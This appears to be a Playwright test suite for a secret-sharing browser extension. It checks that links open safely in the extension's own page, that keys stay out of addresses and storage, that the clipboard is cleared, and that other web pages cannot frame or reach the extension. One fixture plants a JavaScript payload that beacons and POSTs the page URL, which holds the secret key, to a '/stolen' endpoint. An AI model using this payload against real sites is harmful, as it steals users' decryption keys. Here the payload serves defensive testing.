"""Links open in the extension's own page: the server's scripts have no part in it."""

import json
import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest
from chrome import Chrome
from chromium import ROOT
from ledger import LINK, Ledger
from localsite import LocalSite
from ownpages import come_up, examine_everywhere, kept, session, set_options, watched
from playwright.sync_api import Page, Request, expect
from programs import Programs
from service import Service
from steps import MESSAGES, press_open, save, says, shown_text

SECRET = "Server: db.example.org\n\tPassword: Rohrpost-7-Kranich\n"

# Where the server's own page would run: it tells the server all that it knows, and shows a text of its own.
HOSTILE = """
    const told = new Image();
    told.src = `/stolen?${encodeURIComponent(location.href)}`;
    fetch("/stolen", { method: "POST", body: location.href }).catch(() => 0);
    document.body.textContent = "the server's own scripts ran";
"""


@pytest.fixture
def hostile(tmp_path: Path) -> Iterator[Service]:
    """A server of the right API whose pages are not ours."""
    web = tmp_path / "web"
    shutil.copytree(ROOT / "WebUI", web)
    for script in ("open.js", "fragment.js", "receipt.js", "create.js"):
        (web / "pages" / script).write_text(HOSTILE)
    service = Service(tmp_path / "hostile", web=web)
    yield service
    service.stop()


@pytest.fixture
def site() -> Iterator[LocalSite]:
    site = LocalSite({"/": "<!doctype html><title>a place to paste</title>"})
    yield site
    site.close()


def enter(chrome: Chrome, link: str) -> Page:
    """As the redirect of a link leads here."""
    return come_up(chrome, f"open/open.html#{link}")


def look(chrome: Chrome, link: str) -> Page:
    page = enter(chrome, link)
    expect(page.get_by_role("button", name="Open secret")).to_be_visible()
    return page


def test_a_server_with_hostile_scripts_learns_nothing(chrome: Chrome, hostile: Service, ledger: Ledger, tmp_path: Path) -> None:
    (tmp_path / "runs").mkdir()
    chrome.set_server(hostile.base)
    link = Programs(tmp_path / "runs", hostile.base, ledger).share_text(SECRET)["link"]

    asked: list[Request] = []
    chrome.context.on("request", lambda request: asked.append(request))
    control = chrome.context.new_page()
    control.goto(link)
    expect(control.locator("body")).to_have_text("the server's own scripts ran")
    key = LINK.search(link)[3]
    assert any(key in request.url for request in asked), "its page does take the key, wherever that page runs"
    control.close()

    asked.clear()
    watch = watched(chrome, hostile.base, ledger)
    page = look(chrome, link)
    press_open(page)
    assert shown_text(page) == SECRET
    to_server = [request.url for request in asked if request.url.startswith("http")]
    assert to_server != []
    assert all(url.startswith(f"{hostile.base}/api/v1/") for url in to_server), to_server
    watch.check()


def test_the_key_stands_in_no_address_and_outlasts_a_reload(chrome: Chrome, programs: Programs) -> None:
    link = programs.share_text(SECRET)["link"]
    key = LINK.search(link)[3]
    page = look(chrome, link)
    assert key not in page.url
    assert key not in json.dumps(kept(chrome)), "nor on the disk"
    page.reload()
    expect(page.get_by_role("button", name="Open secret")).to_be_visible()
    press_open(page)
    assert shown_text(page) == SECRET
    chrome.until(lambda: key not in json.dumps(session(chrome)))
    page.go_back()
    assert key not in page.url


def test_an_opening_that_broke_off_goes_on_after_a_reload(chrome: Chrome, programs: Programs, tmp_path: Path) -> None:
    big = tmp_path / "big.bin"
    big.write_bytes(bytes(range(256)) * 40_000)
    link = programs.share(str(big))["link"]
    page = look(chrome, link)
    broken: list[str] = []

    def lose(route: object) -> None:
        broken.append(route.request.method)  # the server has given the view away; its answer is lost
        route.fetch()
        route.abort("connectionreset")

    page.route("**/claim", lose)
    press_open(page)
    says(page, "working.waiting")
    page.unroute("**/claim")
    page.on("dialog", lambda dialog: dialog.accept())
    page.reload()
    press_open(page)
    assert save(page, "big.bin") == big.read_bytes()
    assert broken[:1] == ["POST"]


def test_files_and_a_passphrase(chrome: Chrome, programs: Programs, tmp_path: Path) -> None:
    (tmp_path / "passphrase").write_text("correct horse battery")
    (tmp_path / "a file.bin").write_bytes(bytes(range(256)) * 999)
    link = programs.share(str(tmp_path / "a file.bin"), "--passphrase-file", str(tmp_path / "passphrase"))["link"]
    page = look(chrome, link)
    press_open(page, "incorrect horse")
    expect(page.get_by_text(MESSAGES["open.wrongPassphrase"])).to_be_visible()
    press_open(page, "correct horse battery")
    assert save(page, "a file.bin") == bytes(range(256)) * 999


def test_a_picture_is_shown(chrome: Chrome, programs: Programs) -> None:
    link = programs.share(str(ROOT / "Extension/icons/128.png"))["link"]
    page = look(chrome, link)
    press_open(page)
    page.get_by_role("button", name=MESSAGES["opened.preview"]).click()
    picture = page.locator(".preview img")
    expect(picture).to_be_visible()
    assert picture.evaluate("async (image) => { await image.decode(); return image.naturalWidth; }") == 128


def test_what_is_copied_is_taken_off_the_clipboard(chrome: Chrome, programs: Programs, site: LocalSite) -> None:
    link = programs.share_text(SECRET)["link"]
    page = enter(chrome, link)
    page.clock.install()
    expect(page.get_by_role("button", name="Open secret")).to_be_visible()
    press_open(page)
    page.get_by_role("button", name="Copy", exact=True).click()
    expect(page.get_by_text(MESSAGES["opened.copied"])).to_be_visible()
    page.clock.fast_forward(61_000)
    expect(page.get_by_text(MESSAGES["opened.copied.emptied"])).to_be_visible()
    reader = chrome.context.new_page()
    reader.goto(f"{site.base}/")
    assert chrome.clipboard(reader) == ""
    page.bring_to_front()
    page.get_by_role("button", name="Copy", exact=True).click()
    # The browser writes only for a page in front, and the reader is about to come there.
    expect(page.get_by_text(MESSAGES["opened.copied"])).to_be_visible()
    assert chrome.clipboard(reader) == SECRET, "until then it is there"


def test_no_other_server_is_asked(chrome: Chrome, programs: Programs) -> None:
    link = programs.share_text(SECRET)["link"]
    other = LocalSite({})
    chrome.set_server(other.base)
    asked: list[str] = []
    chrome.context.on("request", lambda request: asked.append(request.url))
    page = enter(chrome, link)
    says(page, "extension.open.otherServer.title")
    assert [url for url in asked if url.startswith("http")] == []
    other.close()


def test_a_link_is_pasted_of_any_of_the_servers(chrome: Chrome, programs: Programs, service: Service) -> None:
    link = programs.share_text(SECRET)["link"]
    servers = [{"base": "https://keylink.example.org", "token": ""}, {"base": service.base, "token": ""}]
    set_options(chrome, servers=servers, base="https://keylink.example.org")
    page = come_up(chrome, "open/open.html")
    says(page, "extension.open.ask.title")
    page.get_by_label(MESSAGES["paste.link"], exact=True).fill(f"Here: <{link}>.".removeprefix("Here: "))
    page.keyboard.press("Enter")
    expect(page.get_by_role("button", name="Open secret")).to_be_visible()
    page.keyboard.press("Tab")
    press_open(page)
    assert shown_text(page) == SECRET


@pytest.mark.parametrize("pasted", [False, True])
def test_a_server_that_does_not_answer_extensions_is_told_of(
    chrome: Chrome, tmp_path: Path, ledger: Ledger, pasted: bool
) -> None:
    closed = Service(tmp_path / "closed", "--cors-origin", "https://keylink.example.org")
    (tmp_path / "runs").mkdir()
    link = Programs(tmp_path / "runs", closed.base, ledger).share_text(SECRET)["link"]
    chrome.set_server(closed.base)
    page = come_up(chrome, "open/open.html") if pasted else enter(chrome, link)
    if pasted:
        page.get_by_label(MESSAGES["paste.link"], exact=True).fill(link)
        page.keyboard.press("Enter")
    says(page, "extension.open.unanswered.title")
    host = closed.base.removeprefix("http://")
    expect(page.get_by_role("button", name=MESSAGES["extension.allow"].format(host=host))).to_be_visible()
    # The browser's own question is answered in test_extension_window.py; here that answer is put in its place.
    page.evaluate(
        "() => { chrome.permissions.request = async ({ origins }) => { globalThis.origins = origins; return false; }; }"
    )
    page.get_by_role("button", name=MESSAGES["extension.allow"].format(host=host)).click()
    expect(page.get_by_role("alert").locator("visible=true")).to_have_text(MESSAGES["extension.refused"].format(host=host))
    assert page.evaluate("() => globalThis.origins") == ["http://127.0.0.1/*"], "of this one server, and no other"
    says(page, "extension.open.unanswered.title")
    closed.stop()
    closed.start("--cors-origin", "*")
    page.get_by_role("button", name=MESSAGES["again"]).click()
    press_open(page)
    assert shown_text(page) == SECRET
    closed.stop()


def test_addresses_of_megabytes_take_no_room(chrome: Chrome) -> None:
    """Any page can lead a tab there with one; what is handed over to a reload stands in memory that browsers bound."""
    for _ in range(6):
        page = enter(chrome, "https://keylink.example.org/s/" + "x" * 1_900_000)
        says(page, "ended.malformed-link.title")
        page.close()
    assert chrome.evaluate("() => chrome.storage.session.getBytesInUse(null)") < 100_000


def test_a_web_page_has_no_hold_on_it(chrome: Chrome, programs: Programs, site: LocalSite) -> None:
    """It can lead a tab there, as to any address; it cannot frame it, and what it opened it cannot reach."""
    link = programs.share_text(SECRET)["link"]
    address = f"chrome-extension://{chrome.id}/open/open.html#{link}"
    page = chrome.context.new_page()
    page.goto(f"{site.base}/")
    with chrome.context.expect_page() as opening:
        page.evaluate("(address) => { window.opened = window.open(address); }", address)
    opened = opening.value
    expect(opened.get_by_role("button", name="Open secret")).to_be_visible()
    assert opened.evaluate("() => window.opener") is None
    assert page.evaluate("() => opened.closed"), "for the page there is no such window any more"
    with page.expect_event("framenavigated", lambda frame: frame != page.main_frame):
        page.evaluate(
            "(address) => { const frame = document.createElement('iframe'); frame.src = address; document.body.append(frame); }",
            address,
        )
    assert page.frames[1].url == "chrome-error://chromewebdata/"
    for path in ("popup/popup.html", "options/options.html", "pages/open.js", "icons/16.png"):
        other = f"chrome-extension://{chrome.id}/{path}"
        assert page.evaluate("(other) => fetch(other).then(() => true, () => false)", other) is False, path


def test_how_it_looks(chrome: Chrome, programs: Programs) -> None:
    link = programs.share_text(SECRET)["link"]
    page = come_up(chrome, "open/open.html")
    says(page, "extension.open.ask.title")
    examine_everywhere(chrome, page, "extension-open-ask")
    page = look(chrome, link)
    examine_everywhere(chrome, page, "extension-open")
    press_open(page)
    shown_text(page)
    examine_everywhere(chrome, page, "extension-opened")
